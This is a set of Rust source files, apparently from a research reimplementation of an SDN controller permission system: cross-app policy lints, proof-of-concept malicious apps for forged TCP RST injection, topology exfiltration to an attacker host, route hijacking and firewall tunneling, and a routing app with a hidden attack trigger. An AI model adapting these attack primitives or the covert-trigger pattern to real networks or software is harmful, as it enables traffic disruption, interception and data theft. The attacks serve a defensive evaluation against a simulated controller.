        SpannedAssertion::Compare { lhs, rhs, .. } => {
            expr_refs_app(lhs, binds, depth) || expr_refs_app(rhs, binds, depth)
        }
        SpannedAssertion::And(xs) | SpannedAssertion::Or(xs) => {
            xs.iter().any(|x| assertion_refs_app(x, binds, depth))
        }
        SpannedAssertion::Not(x, _) => assertion_refs_app(x, binds, depth),
    }
}

fn expr_refs_app(
    e: &SpannedPermSetExpr,
    binds: &BTreeMap<&str, &SpannedPermSetExpr>,
    depth: u32,
) -> bool {
    if depth > MAX_RESOLVE_DEPTH {
        return true; // assume the worst
    }
    match e {
        SpannedPermSetExpr::App(_, _) => true,
        SpannedPermSetExpr::Literal(_, _) => false,
        SpannedPermSetExpr::Var(name, _) => binds
            .get(name.as_str())
            .is_some_and(|v| expr_refs_app(v, binds, depth + 1)),
        SpannedPermSetExpr::Meet(a, b) | SpannedPermSetExpr::Join(a, b) => {
            expr_refs_app(a, binds, depth) || expr_refs_app(b, binds, depth)
        }
    }
}

/// Evaluates an app-free assertion to a constant, when all operands resolve.
fn eval_assertion(
    a: &SpannedAssertion,
    binds: &BTreeMap<&str, &SpannedPermSetExpr>,
) -> Option<bool> {
    match a {
        SpannedAssertion::Either(_, _, _) => None,
        SpannedAssertion::Compare { lhs, op, rhs, .. } => {
            let l = resolve_set(lhs, binds, 0)?;
            let r = resolve_set(rhs, binds, 0)?;
            let le = r.includes(&l);
            let ge = l.includes(&r);
            Some(match op {
                CmpOp::Le => le,
                CmpOp::Ge => ge,
                CmpOp::Eq => le && ge,
                CmpOp::Lt => le && !ge,
                CmpOp::Gt => ge && !le,
            })
        }
        SpannedAssertion::And(xs) => {
            let mut acc = true;
            for x in xs {
                acc &= eval_assertion(x, binds)?;
            }
            Some(acc)
        }
        SpannedAssertion::Or(xs) => {
            let mut acc = false;
            for x in xs {
                acc |= eval_assertion(x, binds)?;
            }
            Some(acc)
        }
        SpannedAssertion::Not(x, _) => eval_assertion(x, binds).map(|v| !v),
    }
}

/// Marks every variable referenced by `e` as used.
fn mark_vars_used<'a>(e: &'a SpannedPermSetExpr, used: &mut BTreeSet<&'a str>) {
    walk_perm_set_expr(e, &mut |node| {
        if let SpannedPermSetExpr::Var(name, _) = node {
            used.insert(name.as_str());
        }
    });
}

fn walk_spanned_expr<'a>(e: &'a SpannedExpr, f: &mut impl FnMut(&'a SpannedExpr)) {
    f(e);
    match e {
        SpannedExpr::And(parts) | SpannedExpr::Or(parts) => {
            for p in parts {
                walk_spanned_expr(p, f);
            }
        }
        SpannedExpr::Not(inner, _) => walk_spanned_expr(inner, f),
        SpannedExpr::True(_) | SpannedExpr::Atom(_, _) => {}
    }
}

fn walk_perm_set_expr<'a>(e: &'a SpannedPermSetExpr, f: &mut impl FnMut(&'a SpannedPermSetExpr)) {
    f(e);
    match e {
        SpannedPermSetExpr::Meet(a, b) | SpannedPermSetExpr::Join(a, b) => {
            walk_perm_set_expr(a, f);
            walk_perm_set_expr(b, f);
        }
        _ => {}
    }
}

fn walk_assertion_exprs<'a>(a: &'a SpannedAssertion, f: &mut impl FnMut(&'a SpannedPermSetExpr)) {
    match a {
        SpannedAssertion::Either(l, r, _) => {
            f(l);
            f(r);
        }
        SpannedAssertion::Compare { lhs, rhs, .. } => {
            f(lhs);
            f(rhs);
        }
        SpannedAssertion::And(xs) | SpannedAssertion::Or(xs) => {
            for x in xs {
                walk_assertion_exprs(x, f);
            }
        }
        SpannedAssertion::Not(x, _) => walk_assertion_exprs(x, f),
    }
}

fn known_apps(apps: &[MarketManifest<'_>]) -> String {
    if apps.is_empty() {
        return "none".into();
    }
    apps.iter().map(|a| a.name).collect::<Vec<_>>().join(", ")
}

/// `"<prefix> at line:col"`, omitting the position for span-less trees.
fn locate(prefix: &str, span: Span) -> String {
    if span.line == 0 {
        prefix.to_string()
    } else {
        format!("{prefix} at {span}")
    }
}

// ---------------------------------------------------------------------------
// Whole-market cross-app lints (DESIGN.md §14)
// ---------------------------------------------------------------------------

/// Per-token aggregate authority across the reconciled market.
#[derive(Debug, Clone, PartialEq)]
pub struct TokenCoverage {
    /// The write-class token.
    pub token: PermissionToken,
    /// Apps holding it after site-policy reconciliation.
    pub holders: Vec<String>,
    /// True when the union of the holders' filters covers *every* behavior
    /// in the token's dimension (exact SAT verdict) — no write is outside
    /// someone's authority.
    pub exhaustive: bool,
}

/// One `APP name` policy reference and the apps whose reconciled grants
/// depend on it (escalation reachability: re-registering the referenced app
/// silently changes the dependents' effective ceilings).
#[derive(Debug, Clone, PartialEq)]
pub struct AppReference {
    /// The referenced app.
    pub name: String,
    /// Market apps whose reconciliation reads this app's manifest.
    pub dependents: Vec<String>,
}

/// Aggregate market view computed by [`market_lints`] alongside its
/// diagnostics, surfaced in JSON reports.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct MarketCoverage {
    /// Write-class token coverage across reconciled apps.
    pub write_tokens: Vec<TokenCoverage>,
    /// Escalation-reachability over `APP` references.
    pub references: Vec<AppReference>,
}

/// Cross-app market lints over the *reconciled* manifests: overlapping
/// write authority (SH012), jointly exhaustive aggregate write authority
/// (SH013), and reconciliation cycles through `APP` references (SH014).
/// Returns span-less diagnostics (they concern whole artifacts, not source
/// positions) plus the coverage report.
pub fn market_lints(
    policy: &SpannedPolicy,
    apps: &[MarketManifest<'_>],
) -> (Vec<Diagnostic>, MarketCoverage) {
    let mut out = Vec::new();
    let mut coverage = MarketCoverage::default();

    // Reconcile every app against the site policy. Apps whose
    // reconciliation fails (unbound variables, unknown APP references) are
    // skipped here — SH006/SH009 already report the cause precisely.
    let mut rec = Reconciler::new(policy.to_policy());
    for a in apps {
        rec.register_app(a.name, a.manifest.to_set());
    }
    let mut reconciled: Vec<(&str, PermissionSet)> = Vec::new();
    for a in apps {
        if let Ok(rep) = rec.reconcile(a.name) {
            reconciled.push((a.name, rep.reconciled));
        }
    }

    // SH012: two apps whose post-reconciliation write authority intersects.
    for i in 0..reconciled.len() {
        for j in (i + 1)..reconciled.len() {
            let (na, sa) = &reconciled[i];
            let (nb, sb) = &reconciled[j];
            for (token, fa) in sa.iter() {
                if token.action() != ActionClass::Write {
                    continue;
                }
                let Some(fb) = sb.filter(token) else { continue };
                let joint = FilterExpr::And(vec![fa.clone(), fb.clone()]);
                if let Some(model) = sat::witness(&joint) {
                    out.push(
                        Diagnostic::new(
                            "SH012",
                            Severity::Warning,
                            format!(
                                "apps `{na}` and `{nb}` hold overlapping `{}` \
                                 authority after reconciliation",
                                token.name()
                            ),
                            SpannedExpr::DUMMY_SPAN,
                        )
                        .with_note(format!(
                            "both may write in: {}",
                            sat::describe_model(&model)
                        ))
                        .with_note(
                            "rules from either app can shadow or override the other's; \
                             consider disjoint LIMITING scopes or an EITHER assertion",
                        ),
                    );
                }
            }
        }
    }

    // Coverage + SH013: per write token, who holds it and whether the
    // union of their filters is exhaustive (every behavior allowed to
    // someone — the market as a whole retains unlimited authority).
    let mut tokens: BTreeSet<PermissionToken> = BTreeSet::new();
    for (_, set) in &reconciled {
        tokens.extend(
            set.iter()
                .filter(|(t, _)| t.action() == ActionClass::Write)
                .map(|(t, _)| t),
        );
    }
    for token in tokens {
        let holders: Vec<&(&str, PermissionSet)> = reconciled
            .iter()
            .filter(|(_, s)| s.contains_token(token))
            .collect();
        let union = FilterExpr::Or(
            holders
                .iter()
                .filter_map(|(_, s)| s.filter(token).cloned())
                .collect(),
        );
        let exhaustive = !holders.is_empty() && sat::implies(&FilterExpr::True, &union);
        let names: Vec<String> = holders.iter().map(|(n, _)| (*n).to_owned()).collect();
        if exhaustive && names.len() >= 2 {
            out.push(
                Diagnostic::new(
                    "SH013",
                    Severity::Warning,
                    format!(
                        "aggregate `{}` authority across apps {} is unlimited: \
                         together their filters cover every behavior",
                        token.name(),
                        names.join(", ")
                    ),
                    SpannedExpr::DUMMY_SPAN,
                )
                .with_note(
                    "the site policy bounds each app but not their union; \
                     a colluding or compromised pair escapes every per-app limit",
                ),
            );
        }
        coverage.write_tokens.push(TokenCoverage {
            token,
            holders: names,
            exhaustive,
        });
    }

    // Escalation reachability + SH014. A statement that names `APP x`
    // makes the constraint it expresses read x's manifest at reconcile
    // time; when ONE statement names two distinct market apps, those apps'
    // reconciled grants depend on each other's manifests — a reconciliation
    // cycle (re-registering either changes the other's effective ceiling).
    // Apps referenced by separate, independent statements are NOT coupled,
    // so a policy that merely constrains several apps stays clean.
    let mut refs: Vec<(String, Span)> = Vec::new();
    for stmt in &policy.stmts {
        let mut stmt_refs: Vec<(String, Span)> = Vec::new();
        let mut visit = |e: &SpannedPermSetExpr| {
            walk_perm_set_expr(e, &mut |node| {
                if let SpannedPermSetExpr::App(name, span) = node {
                    if name != CURRENT_APP
                        && apps.iter().any(|a| a.name == name.as_str())
                        && !stmt_refs.iter().any(|(n, _)| n == name)
                    {
                        stmt_refs.push((name.clone(), *span));
                    }
                }
            });
        };
        match &stmt.kind {
            SpannedStmtKind::LetPermSet { value, .. } => visit(value),
            SpannedStmtKind::Assert(a) => walk_assertion_exprs(a, &mut visit),
            SpannedStmtKind::LetFilter { .. } => {}
        }
        for i in 0..stmt_refs.len() {
            for j in (i + 1)..stmt_refs.len() {
                out.push(
                    Diagnostic::new(
                        "SH014",
                        Severity::Warning,
                        format!(
                            "statement couples `APP {}` and `APP {}`: their reconciled \
                             grants depend on each other's manifests",
                            stmt_refs[i].0, stmt_refs[j].0
                        ),
                        stmt_refs[j].1,
                    )
                    .with_note(locate("first coupled reference", stmt_refs[i].1))
                    .with_note(
                        "re-registering either app changes the other's effective ceiling; \
                         reconciliation is registration-order sensitive",
                    ),
                );
            }
        }
        for (name, span) in stmt_refs {
            if !refs.iter().any(|(n, _)| *n == name) {
                refs.push((name, span));
            }
        }
    }
    for (name, _) in &refs {
        coverage.references.push(AppReference {
            name: name.clone(),
            dependents: apps
                .iter()
                .map(|a| a.name.to_owned())
                .filter(|n| n != name)
                .collect(),
        });
    }

    (out, coverage)
}
