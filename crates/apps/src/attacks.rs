//! The four proof-of-concept malicious apps of the paper's effectiveness
//! evaluation (§IX-B1), one per attack class of §II:
//!
//! 1. [`SniffInjectApp`] — "monitors active flows by looking at packet-in
//!    messages and injects TCP RST to all active HTTP sessions".
//! 2. [`InfoLeakApp`] — "collects network topology as well as switch/port
//!    configurations, and leaks out to outside attackers via HTTP POST".
//! 3. [`RouteHijackApp`] — "changes the existing routes between two hosts to
//!    traverse through a third host controlled by the attacker".
//! 4. [`FlowTunnelApp`] — "establishes a dynamic-flow tunnel through a
//!    firewall that only allows HTTP traffic at port 80".
//!
//! Every app counts its attempts and successes so the Table-I coverage
//! matrix can be produced mechanically: run each app on the baseline
//! controller (attacks succeed) and on SDNShield with the scenario
//! permissions (attacks are denied).
//!
//! The file also hosts [`CrasherApp`] — not an attack but a *fault
//! workload*: a deliberately buggy app driven by a
//! [`FaultPlan`](sdnshield_controller::FaultPlan) that crashes, stalls and
//! misbehaves on schedule so the supervision tests can exercise crash
//! containment deterministically.

use std::sync::Arc;

use bytes::Bytes;
use parking_lot::Mutex;

use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_controller::FaultPlan;
use sdnshield_core::api::EventKind;
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::actions::{Action, ActionList};
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::FlowMod;
use sdnshield_openflow::packet::{EthPayload, EthernetFrame, IpPayload, TcpFlags, TcpSegment};
use sdnshield_openflow::types::{DatapathId, Ipv4, PortNo, Priority};

/// Shared attempt/success counters for an attack app.
#[derive(Debug, Default)]
pub struct AttackStats {
    /// Times the app tried its attack primitive.
    pub attempts: u64,
    /// Times the controller let it through.
    pub successes: u64,
}

/// Observation handle shared with tests.
pub type StatsHandle = Arc<Mutex<AttackStats>>;

fn new_stats() -> StatsHandle {
    Arc::new(Mutex::new(AttackStats::default()))
}

// ---------------------------------------------------------------------------
// Class 1: traffic sniffing + injection.
// ---------------------------------------------------------------------------

/// Sniffs packet-ins for HTTP (port 80) TCP traffic and injects forged RST
/// segments at both endpoints.
pub struct SniffInjectApp {
    stats: StatsHandle,
}

impl SniffInjectApp {
    /// Creates the app and its observation handle.
    pub fn new() -> (Self, StatsHandle) {
        let stats = new_stats();
        (
            SniffInjectApp {
                stats: Arc::clone(&stats),
            },
            stats,
        )
    }
}

impl App for SniffInjectApp {
    fn name(&self) -> &str {
        "attack-sniff-inject"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        // A real attacker degrades gracefully: failures are silent.
        let _ = ctx.subscribe(EventKind::PacketIn);
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        let Event::PacketIn { dpid, packet_in } = event else {
            return;
        };
        let Ok(frame) = EthernetFrame::from_bytes(packet_in.payload.clone()) else {
            return; // payload stripped: nothing to sniff
        };
        let EthPayload::Ipv4(ip) = &frame.payload else {
            return;
        };
        let IpPayload::Tcp(tcp) = &ip.payload else {
            return;
        };
        if tcp.dst_port != 80 && tcp.src_port != 80 {
            return;
        }
        // Forge a RST toward the client (swap the tuple).
        let rst = EthernetFrame {
            src: frame.dst,
            dst: frame.src,
            vlan: None,
            payload: EthPayload::Ipv4(sdnshield_openflow::packet::Ipv4Packet {
                src: ip.dst,
                dst: ip.src,
                ttl: 64,
                tos: 0,
                payload: IpPayload::Tcp(TcpSegment {
                    src_port: tcp.dst_port,
                    dst_port: tcp.src_port,
                    seq: tcp.ack,
                    ack: tcp.seq.wrapping_add(1),
                    flags: TcpFlags {
                        rst: true,
                        ack: true,
                        ..TcpFlags::default()
                    },
                    data: Bytes::new(),
                }),
            }),
        };
        let mut stats = self.stats.lock();
        stats.attempts += 1;
        if ctx
            .packet_out_port(*dpid, packet_in.in_port, rst.to_bytes())
            .is_ok()
        {
            stats.successes += 1;
        }
    }
}

// ---------------------------------------------------------------------------
// Class 2: information leakage.
// ---------------------------------------------------------------------------

/// Collects topology and statistics and POSTs them to an attacker endpoint.
pub struct InfoLeakApp {
    /// The attacker's collector.
    pub attacker: (Ipv4, u16),
    stats: StatsHandle,
}

impl InfoLeakApp {
    /// Creates the app phoning home to `attacker`.
    pub fn new(attacker: (Ipv4, u16)) -> (Self, StatsHandle) {
        let stats = new_stats();
        (
            InfoLeakApp {
                attacker,
                stats: Arc::clone(&stats),
            },
            stats,
        )
    }
}

impl App for InfoLeakApp {
    fn name(&self) -> &str {
        "attack-info-leak"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        let _ = ctx.subscribe(EventKind::Topology);
        let _ = ctx.subscribe(EventKind::PacketIn);
    }

    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
        let mut dossier = String::from("POST /loot HTTP/1.1\r\n\r\n");
        if let Ok(view) = ctx.read_topology() {
            dossier.push_str(&format!(
                "switches={:?};links={:?};hosts={};",
                view.switches.iter().map(|s| s.dpid.0).collect::<Vec<_>>(),
                view.links,
                view.hosts.len(),
            ));
        }
        if let Ok(stats) = ctx.read_statistics(
            DatapathId(1),
            sdnshield_openflow::messages::StatsRequest::Table,
        ) {
            dossier.push_str(&format!("stats={stats:?};"));
        }
        let mut stats = self.stats.lock();
        stats.attempts += 1;
        let ok = match ctx.host_connect(self.attacker.0, self.attacker.1) {
            Ok(conn) => ctx.host_send(conn, Bytes::from(dossier)).is_ok(),
            Err(_) => false,
        };
        if ok {
            stats.successes += 1;
        }
    }
}

// ---------------------------------------------------------------------------
// Class 3: rule manipulation (man-in-the-middle).
// ---------------------------------------------------------------------------

/// Re-routes traffic for a victim destination through an attacker-controlled
/// port by overriding existing rules at higher priority.
pub struct RouteHijackApp {
    /// Destination whose traffic is stolen.
    pub victim_dst: Ipv4,
    /// Where to detour it: (switch, attacker-facing port).
    pub detour: (DatapathId, PortNo),
    stats: StatsHandle,
}

impl RouteHijackApp {
    /// Creates the app.
    pub fn new(victim_dst: Ipv4, detour: (DatapathId, PortNo)) -> (Self, StatsHandle) {
        let stats = new_stats();
        (
            RouteHijackApp {
                victim_dst,
                detour,
                stats: Arc::clone(&stats),
            },
            stats,
        )
    }
}

impl App for RouteHijackApp {
    fn name(&self) -> &str {
        "attack-route-hijack"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        let _ = ctx.subscribe(EventKind::PacketIn);
        let _ = ctx.subscribe(EventKind::Topology);
    }

    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
        let fm = FlowMod::add(
            FlowMatch::default().with_ip_dst(self.victim_dst),
            Priority(900), // above the victim's routing rules
            ActionList::output(self.detour.1),
        );
        let mut stats = self.stats.lock();
        stats.attempts += 1;
        if ctx.insert_flow(self.detour.0, fm).is_ok() {
            stats.successes += 1;
        }
    }
}

// ---------------------------------------------------------------------------
// Class 4: dynamic-flow tunneling through a firewall.
// ---------------------------------------------------------------------------

/// Establishes a two-ended rewrite tunnel that smuggles a blocked port
/// through a firewall that only allows port 80.
pub struct FlowTunnelApp {
    /// Switch in front of the firewall rules.
    pub ingress: DatapathId,
    /// Switch behind the firewall.
    pub egress: DatapathId,
    /// The port the firewall blocks (e.g. telnet 23).
    pub blocked_port: u16,
    /// The port the firewall allows (80).
    pub allowed_port: u16,
    /// Egress ports toward the next hop on each switch.
    pub out_ports: (PortNo, PortNo),
    stats: StatsHandle,
}

impl FlowTunnelApp {
    /// Creates the app.
    pub fn new(
        ingress: DatapathId,
        egress: DatapathId,
        blocked_port: u16,
        allowed_port: u16,
        out_ports: (PortNo, PortNo),
    ) -> (Self, StatsHandle) {
        let stats = new_stats();
        (
            FlowTunnelApp {
                ingress,
                egress,
                blocked_port,
                allowed_port,
                out_ports,
                stats: Arc::clone(&stats),
            },
            stats,
        )
    }
}

impl App for FlowTunnelApp {
    fn name(&self) -> &str {
        "attack-flow-tunnel"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        let _ = ctx.subscribe(EventKind::PacketIn);
        let _ = ctx.subscribe(EventKind::Topology);
    }

    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
        // Entry rewrite: blocked port masquerades as the allowed one.
        let entry = FlowMod::add(
            FlowMatch::default().with_tp_dst(self.blocked_port),
            Priority(950),
            ActionList(vec![
                Action::SetTpDst(self.allowed_port),
                Action::Output(self.out_ports.0),
            ]),
        );
        // Exit rewrite: restore the original port past the firewall.
        let exit = FlowMod::add(
            FlowMatch::default().with_tp_dst(self.allowed_port),
            Priority(950),
            ActionList(vec![
                Action::SetTpDst(self.blocked_port),
                Action::Output(self.out_ports.1),
            ]),
        );
        let mut stats = self.stats.lock();
        stats.attempts += 1;
        let ok_in = ctx.insert_flow(self.ingress, entry).is_ok();
        let ok_out = ctx.insert_flow(self.egress, exit).is_ok();
        if ok_in && ok_out {
            stats.successes += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_controller::monolithic::MonolithicController;
    use sdnshield_core::perm::PermissionSet;
    use sdnshield_netsim::network::Network;
    use sdnshield_netsim::topology::builders;

    /// On the baseline controller every attack primitive succeeds — the
    /// vulnerability the paper's Table I documents.
    #[test]
    fn all_attacks_succeed_on_baseline() {
        let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
        let (sniff, sniff_stats) = SniffInjectApp::new();
        let (leak, leak_stats) = InfoLeakApp::new((Ipv4::new(203, 0, 113, 66), 8080));
        let (hijack, hijack_stats) =
            RouteHijackApp::new(Ipv4::new(10, 0, 0, 3), (DatapathId(2), PortNo(1)));
        let (tunnel, tunnel_stats) =
            FlowTunnelApp::new(DatapathId(1), DatapathId(2), 23, 80, (PortNo(2), PortNo(2)));
        c.register(Box::new(sniff), &PermissionSet::new());
        c.register(Box::new(leak), &PermissionSet::new());
        c.register(Box::new(hijack), &PermissionSet::new());
        c.register(Box::new(tunnel), &PermissionSet::new());
        // One HTTP packet from h1 wakes everything.
        let http = EthernetFrame::tcp(
            sdnshield_openflow::types::EthAddr::from_u64(1),
            sdnshield_openflow::types::EthAddr::from_u64(3),
            Ipv4::new(10, 0, 0, 1),
            Ipv4::new(10, 0, 0, 3),
            4321,
            80,
            TcpFlags::default(),
            Bytes::new(),
        );
        c.inject_host_frame(http);
        for (name, stats) in [
            ("sniff", &sniff_stats),
            ("leak", &leak_stats),
            ("hijack", &hijack_stats),
            ("tunnel", &tunnel_stats),
        ] {
            let s = stats.lock();
            assert!(s.attempts > 0, "{name} never attempted");
            assert_eq!(
                s.successes, s.attempts,
                "{name} should fully succeed on baseline"
            );
        }
        // Forensics: the leak actually moved bytes off-host.
        assert!(
            c.kernel()
                .bytes_exfiltrated_by(sdnshield_core::api::AppId(2))
                > 0
        );
    }
}

// ---------------------------------------------------------------------------
// Fault injection: the supervision test driver.
// ---------------------------------------------------------------------------

/// Observation handle for a [`CrasherApp`].
pub type CrasherHandle = Arc<Mutex<CrasherStats>>;

/// What a [`CrasherApp`] managed to do before (and after) its faults fired.
#[derive(Debug, Default)]
pub struct CrasherStats {
    /// Events delivered to `on_event` (including the one it crashed in).
    pub events_seen: u64,
    /// Canary flows successfully installed across all starts.
    pub canaries_installed: u64,
    /// Host connections successfully opened across all starts.
    pub conns_opened: u64,
    /// Times `on_start` ran (restarts increment this).
    pub starts: u64,
    /// The last mediated-call error observed, if any (e.g. the
    /// `ApiError::Internal` a deputy panic surfaces as).
    pub last_call_error: Option<String>,
}

/// A deliberately faulty app driven by a [`FaultPlan`]: the workload for the
/// crash-containment tests.
///
/// On start it subscribes to packet-ins and optionally leaves *footprints*
/// in the controller — a high-priority canary flow and an open host
/// connection — precisely so the tests can verify the supervisor reclaims
/// them after the crash. On each event it issues one mediated call (a canary
/// re-install) so deputy-side faults keyed to this app have traffic to fire
/// on, then interprets the app-side faults of its plan: stall on the Nth
/// event, panic on the Nth event, panic in `on_start`.
pub struct CrasherApp {
    plan: FaultPlan,
    canary_dpid: Option<DatapathId>,
    host_dst: Option<(Ipv4, u16)>,
    /// Events seen by *this incarnation* — fault triggers are per-life, so
    /// a restarted instance re-arms (its own "first event" counts from 1),
    /// while `stats.events_seen` accumulates across restarts.
    events_this_life: u64,
    stats: CrasherHandle,
}

impl CrasherApp {
    /// Creates the app and its observation handle.
    pub fn new(plan: FaultPlan) -> (Self, CrasherHandle) {
        let stats = Arc::new(Mutex::new(CrasherStats::default()));
        (
            CrasherApp {
                plan,
                canary_dpid: None,
                host_dst: None,
                events_this_life: 0,
                stats: Arc::clone(&stats),
            },
            stats,
        )
    }

    /// Builds an identically-configured instance sharing the same stats —
    /// the factory body for `register_supervised` restart tests.
    pub fn clone_fresh(&self) -> CrasherApp {
        CrasherApp {
            plan: self.plan.clone(),
            canary_dpid: self.canary_dpid,
            host_dst: self.host_dst,
            events_this_life: 0,
            stats: Arc::clone(&self.stats),
        }
    }

    /// Install a high-priority canary flow on `dpid` during `on_start`.
    pub fn with_canary_flow(mut self, dpid: DatapathId) -> Self {
        self.canary_dpid = Some(dpid);
        self
    }

    /// Open a host connection to `dst` during `on_start`.
    pub fn with_host_conn(mut self, ip: Ipv4, port: u16) -> Self {
        self.host_dst = Some((ip, port));
        self
    }

    fn canary_flow(&self) -> FlowMod {
        FlowMod::add(
            FlowMatch::default().with_ip_dst(Ipv4::new(203, 0, 113, 99)),
            Priority(990),
            ActionList::drop(),
        )
    }
}

impl App for CrasherApp {
    fn name(&self) -> &str {
        "fault-crasher"
    }

    fn required_tokens(&self) -> Vec<PermissionToken> {
        let mut tokens = vec![PermissionToken::PktInEvent];
        if self.canary_dpid.is_some() {
            tokens.push(PermissionToken::InsertFlow);
        }
        if self.host_dst.is_some() {
            tokens.push(PermissionToken::HostNetwork);
        }
        tokens
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        self.stats.lock().starts += 1;
        if self.plan.panic_on_start {
            panic!("injected fault: panic in on_start");
        }
        let _ = ctx.subscribe(EventKind::PacketIn);
        if let Some(dpid) = self.canary_dpid {
            if ctx.insert_flow(dpid, self.canary_flow()).is_ok() {
                self.stats.lock().canaries_installed += 1;
            }
        }
        if let Some((ip, port)) = self.host_dst {
            if ctx.host_connect(ip, port).is_ok() {
                self.stats.lock().conns_opened += 1;
            }
        }
    }

    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
        self.events_this_life += 1;
        let nth = self.events_this_life;
        self.stats.lock().events_seen += 1;
        // One mediated call per event, so deputy-side faults have traffic
        // to fire on.
        if let Some(dpid) = self.canary_dpid {
            if let Err(e) = ctx.insert_flow(dpid, self.canary_flow()) {
                self.stats.lock().last_call_error = Some(e.to_string());
            }
        }
        if let Some((n, d)) = self.plan.stall_on_nth_event {
            if u64::from(n) == nth {
                std::thread::sleep(d);
            }
        }
        if let Some(n) = self.plan.panic_on_nth_event {
            if u64::from(n) == nth {
                panic!("injected fault: panic on event {nth}");
            }
        }
    }
}
