//! Scenario 2 (paper §VII): a *malicious routing app*.
//!
//! The app "implements shortest path routing in normal cases, but stealthily
//! launches control-plane attacks at times". The malicious side is driven by
//! a command channel, mirroring an embedded trigger.

use std::sync::Arc;

use bytes::Bytes;
use crossbeam::channel::{unbounded, Receiver, Sender};
use parking_lot::Mutex;

use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_core::api::EventKind;
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::actions::{Action, ActionList};
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::FlowMod;
use sdnshield_openflow::packet::{EthPayload, EthernetFrame};
use sdnshield_openflow::types::{DatapathId, EthAddr, Ipv4, PortNo, Priority};

/// The §VII scenario-2 manifest: forwarding-only inserts on own flows.
pub const ROUTING_MANIFEST: &str = "\
PERM visible_topology
PERM pkt_in_event
PERM read_payload
PERM flow_event
PERM send_pkt_out
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
";

/// Hidden commands the malicious payload can receive.
#[derive(Debug, Clone)]
pub enum MaliciousCommand {
    /// Class 2: call home with the topology.
    Exfiltrate {
        /// Attacker address.
        to: Ipv4,
        /// Attacker port.
        port: u16,
    },
    /// Class 3: overwrite routes so `victim_dst` traffic detours through
    /// `via` (a man-in-the-middle).
    HijackRoute {
        /// The destination whose traffic is stolen.
        victim_dst: Ipv4,
        /// Switch and port to detour through.
        via: (DatapathId, PortNo),
    },
    /// Class 4: tunnel firewall-blocked traffic by rewriting ports at both
    /// ends (dynamic-flow tunneling).
    TunnelFirewall {
        /// The switch the firewall rules live on.
        firewall: DatapathId,
        /// The blocked destination port.
        blocked_port: u16,
        /// The allowed destination port to masquerade as.
        allowed_port: u16,
        /// Egress toward the destination.
        out_port: PortNo,
    },
}

/// Outcome of one malicious attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackOutcome {
    /// Label.
    pub attack: String,
    /// Whether the controller allowed it.
    pub succeeded: bool,
}

/// Driving handle for tests.
#[derive(Clone)]
pub struct Trigger {
    /// Queue malicious commands.
    pub commands: Sender<MaliciousCommand>,
    /// Observed outcomes.
    pub outcomes: Arc<Mutex<Vec<AttackOutcome>>>,
}

/// The routing app: honest shortest-path forwarding + hidden payload.
pub struct RoutingApp {
    commands: Receiver<MaliciousCommand>,
    outcomes: Arc<Mutex<Vec<AttackOutcome>>>,
    /// Paths installed by honest routing (tests).
    paths_installed: u64,
}

impl RoutingApp {
    /// Creates the app and its (covert) trigger handle.
    pub fn new() -> (Self, Trigger) {
        let (tx, rx) = unbounded();
        let outcomes = Arc::new(Mutex::new(Vec::new()));
        (
            RoutingApp {
                commands: rx,
                outcomes: Arc::clone(&outcomes),
                paths_installed: 0,
            },
            Trigger {
                commands: tx,
                outcomes,
            },
        )
    }

    fn record(&self, attack: &str, succeeded: bool) {
        self.outcomes.lock().push(AttackOutcome {
            attack: attack.to_owned(),
            succeeded,
        });
    }

    /// Honest duty: install a shortest path for the packet's source→dest
    /// pair and release the packet along it.
    fn route(&mut self, ctx: &AppCtx, dpid: DatapathId, frame: &EthernetFrame) {
        let Ok(view) = ctx.read_topology() else {
            return;
        };
        let (src_ip, dst_ip) = match &frame.payload {
            EthPayload::Ipv4(ip) => (ip.src, ip.dst),
            EthPayload::Arp(arp) => (arp.sender_ip, arp.target_ip),
            _ => return,
        };
        let Some(dst_host) = view.host_by_ip(dst_ip) else {
            return;
        };
        let dst_host = dst_host.clone();
        let _ = src_ip;
        let Some(path) = view.shortest_path(dpid, dst_host.switch) else {
            return;
        };
        let m = FlowMatch::default().with_ip_dst(dst_ip);
        let mut all_ok = true;
        for window in path.windows(2) {
            let Some(port) = view.port_toward(window[0], window[1]) else {
                all_ok = false;
                continue;
            };
            if ctx
                .insert_flow(
                    window[0],
                    FlowMod::add(m.clone(), Priority(100), ActionList::output(port)),
                )
                .is_err()
            {
                all_ok = false;
            }
        }
        // Egress hop to the host port.
        if ctx
            .insert_flow(
                dst_host.switch,
                FlowMod::add(m, Priority(100), ActionList::output(dst_host.port)),
            )
            .is_err()
        {
            all_ok = false;
        }
        if all_ok {
            self.paths_installed += 1;
        }
        // Release the pending packet toward the next hop (or the host).
        let next_port = path
            .windows(2)
            .next()
            .and_then(|w| view.port_toward(w[0], w[1]))
            .unwrap_or(dst_host.port);
        let _ = ctx.packet_out_port(dpid, next_port, frame.to_bytes());
    }

    fn run_command(&self, ctx: &AppCtx, cmd: MaliciousCommand) {
        match cmd {
            MaliciousCommand::Exfiltrate { to, port } => {
                let ok = match ctx.host_connect(to, port) {
                    Ok(conn) => {
                        let payload = match ctx.read_topology() {
                            Ok(view) => format!("topology: {} switches", view.switches.len()),
                            Err(_) => "no topology".to_owned(),
                        };
                        ctx.host_send(conn, Bytes::from(payload)).is_ok()
                    }
                    Err(_) => false,
                };
                self.record("exfiltrate", ok);
            }
            MaliciousCommand::HijackRoute { victim_dst, via } => {
